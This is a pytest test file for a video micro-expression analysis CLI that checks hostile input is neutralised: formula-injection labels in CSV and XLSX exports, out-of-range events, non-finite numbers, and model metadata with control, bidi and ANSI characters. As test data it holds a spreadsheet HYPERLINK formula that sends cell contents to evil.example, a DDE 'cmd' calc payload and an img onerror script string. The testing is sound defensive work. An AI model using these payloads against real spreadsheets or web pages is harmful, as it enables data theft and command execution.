"""Hostile input at the command line: spreadsheet formulas in labels, events outside the
video, the events of another video. Every case ends with a user-visible outcome: exit code 2
and one line without a traceback, or a file whose cells are inert text."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import cv2
import numpy as np
import pytest

from mestudio.cli import main

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def video(tmp_path_factory) -> Path:
    """A 20-frame, 25 fps MJPG clip (64x64)."""
    path = tmp_path_factory.mktemp("video") / "clip.avi"
    w = cv2.VideoWriter(str(path), cv2.VideoWriter_fourcc(*"MJPG"), 25.0, (64, 64))
    assert w.isOpened()
    for i in range(20):
        w.write(np.full((64, 64, 3), i * 10, np.uint8))
    w.release()
    return path


def _events_file(folder: Path, events: list[dict], source: str = "clip.avi") -> Path:
    path = folder / "hostile.events.json"
    path.write_text(json.dumps({"format": "mestudio-events/1", "source": source, "fps": 25.0,
                                "n_frames": 20, "events": events}))
    return path


def _event(i: int, onset: float, apex: float, offset: float, **kw) -> dict:
    return {"id": i, "onset": onset, "apex": apex, "offset": offset, "kind": "micro", **kw}


def _one_line_error(capsys) -> str:
    err = capsys.readouterr().err.strip()
    assert "Traceback" not in err
    lines = err.splitlines()
    assert len(lines) == 1, err
    return lines[0]


def test_formula_labels_export_as_text_in_xlsx_and_csv(video, tmp_path, capsys):
    from openpyxl import load_workbook

    events = _events_file(tmp_path, [
        _event(0, 2, 4, 6, label=FORMULA, aus="+AU4@cmd"),
        _event(1, 8, 9, 12, label="@SUM(A1:A9)", aus="-1+2"),
        _event(2, 13, 14, 15, label="\tsurprise", aus="AU1")])
    xlsx, csv_path = tmp_path / "sheet.xlsx", tmp_path / "sheet.csv"
    for out in (xlsx, csv_path):
        assert main(["review", str(video), "--events", str(events), "--export", str(out),
                     "--subject", "=1+1"]) == 0
    ws = load_workbook(xlsx).active
    rows = list(ws.iter_rows(min_row=2))
    cells = {c.value: c for r in rows for c in r}
    for text in (FORMULA, "+AU4@cmd", "@SUM(A1:A9)", "-1+2", "=1+1"):
        assert cells[text].data_type == "s", text  # text, not a formula
        assert cells[text].quotePrefix, text
    # a tab (a control character) is removed on input: the label is plain text again
    assert "\tsurprise" not in cells and cells["surprise"].data_type == "s"
    onsets = [r[2] for r in rows]
    assert [c.value for c in onsets] == [2, 8, 13] and all(c.data_type == "n" for c in onsets)

    rows = list(csv.reader(csv_path.open(encoding="utf-8", newline="")))
    body = rows[1:]
    assert body[0][0] == "'=1+1" and body[0][6] == "'" + FORMULA and body[0][5] == "'+AU4@cmd"
    assert body[1][6] == "'@SUM(A1:A9)" and body[1][5] == "'-1+2"
    assert body[2][6] == "surprise"
    assert [r[2] for r in body] == ["2", "8", "13"]


def test_negative_numbers_stay_numbers_in_events_csv(tmp_path):
    from mestudio.csvio import safe_row
    from mestudio.events_io import read_events_csv, write_events_csv
    from mestudio.types import Prediction, SpotEvent

    assert safe_row([-3, -0.5, "-0.25", "-x", "=A1"]) == [-3, -0.5, "-0.25", "'-x", "'=A1"]
    pred = Prediction(probs=np.asarray([0.9, 0.1], np.float32), label="=cmd|' /C calc'!A0",
                      confidence=0.9, classes=("=cmd|' /C calc'!A0", "other"))
    ev = SpotEvent(onset=1, apex=2, offset=3, onset_s=0.04, apex_s=0.08, offset_s=0.12,
                   kind="micro", roi="-brows", peak=-1.5, prediction=pred, id=0)
    path = write_events_csv(tmp_path / "events.csv", [ev])
    row = next(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert row["emotion"] == "'=cmd|' /C calc'!A0"
    assert row["roi"] == "'-brows"
    assert float(row["peak"]) == -1.5
    assert read_events_csv(path)[0].peak == -1.5


@pytest.mark.parametrize("onset,apex,offset", [(-5, 2, 4), (15, 18, 25), (30, 31, 32),
                                               (1e20, 1e20, 1e20)])
def test_event_outside_the_video_is_refused_in_one_line(video, tmp_path, capsys, onset, apex,
                                                        offset):
    events = _events_file(tmp_path, [_event(0, 2, 3, 4), _event(7, onset, apex, offset)])
    out = tmp_path / "sheet.csv"
    assert main(["review", str(video), "--events", str(events), "--export", str(out)]) == 2
    line = _one_line_error(capsys)
    assert "event 7" in line and "outside the video" in line and "0..19" in line
    assert not out.exists()


def test_infinite_frame_is_refused_in_one_line(video, tmp_path, capsys):
    events = tmp_path / "inf.events.json"
    events.write_text('{"format": "mestudio-events/1", "source": "clip.avi", "fps": 25, '
                      '"events": [{"id": 3, "onset": 1e999, "apex": 1e999, "offset": 1e999}]}')
    assert main(["review", str(video), "--events", str(events), "--export",
                 str(tmp_path / "s.csv")]) == 2
    assert "event 3" in _one_line_error(capsys)


def test_clamp_frames_clamps_only_when_asked(video, tmp_path, capsys):
    events = _events_file(tmp_path, [_event(0, -5, 2, 4), _event(1, 15, 18, 25)])
    out = tmp_path / "sheet.csv"
    assert main(["review", str(video), "--events", str(events), "--export", str(out),
                 "--clamp-frames"]) == 0
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))[1:]
    assert [r[2:5] for r in rows] == [["0", "2", "4"], ["15", "18", "19"]]


def test_events_of_another_video_are_refused(video, tmp_path, capsys):
    events = _events_file(tmp_path, [_event(0, 2, 3, 4)], source="/data/other_clip.mp4")
    assert main(["review", str(video), "--events", str(events), "--export",
                 str(tmp_path / "s.xlsx")]) == 2
    line = _one_line_error(capsys)
    assert "other_clip.mp4" in line and "clip.avi" in line


# ------------------------------------------------------------------ model class names
ROOT = Path(__file__).resolve().parents[2]
SHIPPED_MODEL = ROOT / "models" / "m3enet_synthetic.onnx"


@pytest.fixture(scope="module")
def model_proto():
    onnx = pytest.importorskip("onnx")
    if not SHIPPED_MODEL.is_file():
        pytest.skip("the shipped model models/m3enet_synthetic.onnx is absent")
    return onnx.load(str(SHIPPED_MODEL))


def _with_classes(proto, classes, path: Path) -> Path:
    import onnx

    model = onnx.ModelProto()
    model.CopyFrom(proto)
    for p in model.metadata_props:
        if p.key == "mestudio.classes":
            k = len(json.loads(p.value))
            p.value = json.dumps((list(classes) + [f"c{i}" for i in range(k)])[:k])
    onnx.save(model, str(path))
    return path


@pytest.mark.parametrize("bad,why", [
    ("sad\x00ness", "U+0000"), ("sad\nness", "U+000A"), ("\u202eanger", "U+202E"),
    ("x" * 5000, "5000 characters"), ("", "empty"), ("  ", "empty"),
    ("Happiness", "repeats class #0")])
def test_model_with_bad_class_names_is_refused(model_proto, tmp_path, bad, why):
    from mestudio.errors import ModelFileError
    from mestudio.inference.engine import InferenceEngine

    path = _with_classes(model_proto, ["happiness", bad], tmp_path / "bad.onnx")
    with pytest.raises(ModelFileError) as info:
        InferenceEngine(path)
    message = str(info.value)
    assert "class #1" in message and why in message and "\n" not in message
    assert len(message) < 400


def test_analyze_refuses_a_model_with_bidi_class_names(model_proto, video, tmp_path, capsys):
    path = _with_classes(model_proto, ["happiness", "\u202egnirps"], tmp_path / "bidi.onnx")
    out = tmp_path / "out"
    main(["analyze", str(video), "--out", str(out), "--model", str(path), "--max-frames", "2"])
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err
    # the refusal, named, on one line: a warning before the work and in the summary
    for stream in (captured.err, captured.out):
        said = [ln for ln in stream.splitlines() if "U+202E" in ln]
        assert len(said) == 1 and "class #1" in said[0]
    if (out / "events.csv").exists():
        assert "\u202e" not in (out / "events.csv").read_text(encoding="utf-8")


@pytest.mark.parametrize("argv", [
    ["analyze", "demo", "--fps", "nan"], ["analyze", "demo", "--fps", "inf"],
    ["analyze", "demo", "--sensitivity", "nan"], ["synth", "--duration", "inf"],
    ["synth", "--amplitude", "0.01", "nan"]])
def test_non_finite_numbers_are_refused_in_one_line(argv, tmp_path, capsys):
    """``--fps nan`` gave a traceback in the spotter and ``--fps inf`` wrote every timestamp
    as 0 (issue 22, item 6): any number option refuses nan and inf, before anything runs."""
    out = tmp_path / "out"
    assert main([*argv, "--out", str(out)]) == 2
    assert "must be a finite number" in _one_line_error(capsys)
    assert not out.exists()


def test_model_text_is_data_never_terminal_control(model_proto, video, tmp_path, capsys):
    """A model whose name and description carry a newline, an ANSI escape and a bidi
    override (issue 22, item 3): printed and stored without them, the work goes on."""
    import onnx

    model = onnx.ModelProto()
    model.CopyFrom(model_proto)
    evil = '<img src=x onerror=alert(1)>\nEVIL\x1b[2J\u202e'
    keys = {p.key for p in model.metadata_props}
    for key in ("mestudio.name", "mestudio.description"):
        if key not in keys:
            model.metadata_props.add(key=key, value="")
    for p in model.metadata_props:
        if p.key in ("mestudio.name", "mestudio.description"):
            p.value = evil
    path = tmp_path / "evil.onnx"
    onnx.save(model, str(path))
    out = tmp_path / "out"
    assert main(["analyze", str(video), "--out", str(out), "--model", str(path),
                 "--max-frames", "4"]) == 0
    captured = capsys.readouterr()
    for text in (captured.out, captured.err, (out / "events.json").read_text("utf-8")):
        assert "\x1b" not in text and "\u202e" not in text and "\nEVIL" not in text
    doc = json.loads((out / "events.json").read_text("utf-8"))
    assert "EVIL" in json.dumps(doc)            # kept as plain text, not dropped
